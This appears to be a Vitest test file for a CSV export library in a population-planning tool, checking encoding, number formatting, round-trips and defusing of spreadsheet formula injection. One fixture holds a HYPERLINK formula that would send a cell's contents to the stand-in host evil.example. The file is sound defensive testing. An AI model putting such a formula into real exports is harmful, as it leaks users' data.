import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { csvNumber, parseResultsCsv, resultsToCsv, type CsvResults } from '../../src/io/results-csv.ts';
import { evaluatePlan, evaluationToCsv, parseActualsCsv } from '../../src/lib/evaluation.ts';

const results: CsvResults = {
  years: [2020, 2021, 2022],
  rows: [
    { id: 'pop_total', labelZh: '常住人口', labelEn: 'Resident population', unit: '人', values: new Float64Array([5472217, 5468000.5, 5461234.25]) },
    { id: 'share_60plus', labelZh: '60岁及以上人口占比', labelEn: 'Share aged 60+', unit: '', values: [0.1 + 0.2, 0.2296, 1e-7] },
    { id: 'beds_gap_norm', labelZh: '床位缺口（按“千人床位”标准）', labelEn: 'Bed gap, "norm" method, per 1,000', unit: '张', values: [-1200, Number.NaN, Infinity] },
    { id: 'x_formula', labelZh: '=1+1', labelEn: '@SUM(A1)', unit: '元/人/月', values: [0, -0, 3.2e8] },
  ],
};

describe('results CSV', () => {
  const csv = resultsToCsv(results);

  it('starts with a BOM, uses CRLF and the expected header', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe('id,中文名称,English name,unit,2020,2021,2022');
    expect(lines).toHaveLength(5);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });

  it('prints numbers without separators, trimmed of float noise, and empty cells for NaN/Infinity', () => {
    const lines = csv.slice(1).split('\r\n');
    expect(lines[1]).toBe('pop_total,常住人口,Resident population,人,5472217,5468000.5,5461234.25');
    expect(lines[2]).toBe('share_60plus,60岁及以上人口占比,Share aged 60+,,0.3,0.2296,1e-7');
    expect(lines[3]).toBe('beds_gap_norm,床位缺口（按“千人床位”标准）,"Bed gap, ""norm"" method, per 1,000",张,-1200,,');
    expect(csvNumber(-0)).toBe(0);
  });

  it('defuses text that a spreadsheet would run as a formula', () => {
    const lines = csv.slice(1).split('\r\n');
    expect(lines[4]).toBe(`x_formula,"'=1+1","'@SUM(A1)",元/人/月,0,0,320000000`);
  });

  it('round-trips labels and values through parseResultsCsv', () => {
    const back = parseResultsCsv(csv);
    expect(back.years).toEqual(results.years);
    expect(back.rows.map((r) => [r.id, r.labelZh, r.labelEn, r.unit])).toEqual(results.rows.map((r) => [r.id, r.labelZh, r.labelEn, r.unit]));
    expect(back.rows[0].values).toEqual([5472217, 5468000.5, 5461234.25]);
    expect(back.rows[1].values).toEqual([0.3, 0.2296, 1e-7]);
    expect(back.rows[2].values).toEqual([-1200, Number.NaN, Number.NaN]);
  });

  it('refuses rows whose length does not match the years', () => {
    expect(() => resultsToCsv({ years: [2020], rows: [{ id: 'a', labelZh: '', labelEn: '', unit: '', values: [1, 2] }] })).toThrow(RangeError);
  });
});

describe('formula injection through a newline (issue 16, item 3)', () => {
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")\n';
  const cells = [evil, `+1\r\n2`, '-2+3\nx', '@SUM(A1)\n', '\t=1', '＝1+1'];

  it('defuses every formula-like text cell of the results CSV, even one that spans lines', () => {
    for (const cell of cells) {
      const csv = resultsToCsv({ years: [2020], rows: [{ id: 'x', labelZh: cell, labelEn: cell, unit: cell, values: [1] }] });
      const body = csv.slice(1);
      expect(body.slice(body.indexOf('\r\n') + 2)).toBe(`x,${Array(3).fill(`"'${cell.replace(/"/g, '""')}"`).join(',')},1`);
      const back = parseResultsCsv(csv);
      expect([back.rows[0].labelZh, back.rows[0].labelEn, back.rows[0].unit]).toEqual([cell, cell, cell]);
    }
  });

  it('defuses labels, units, indicator names and sources of the evaluation CSV, and reads them back', () => {
    const rows = evaluatePlan(
      {
        baseYear: 2020,
        targets: [{ id: 't', label: evil, expr: 'pop_total', op: '>=', value: 1, year: 2025, every: false, unit: evil, source: evil }],
        actuals: [{ indicator: evil, value: 2, date: '2023-06', source: evil }],
      },
      null,
    );
    const csv = evaluationToCsv(rows);
    const parsed = Papa.parse<string[]>(csv.slice(1)).data;
    for (const row of parsed.slice(1).filter((r) => r.length > 1)) {
      for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r＝]/);
    }
    expect(parseActualsCsv(csv).map((a) => [a.indicator, a.source])).toEqual([[evil.trim(), evil.trim()]]);
  });
});
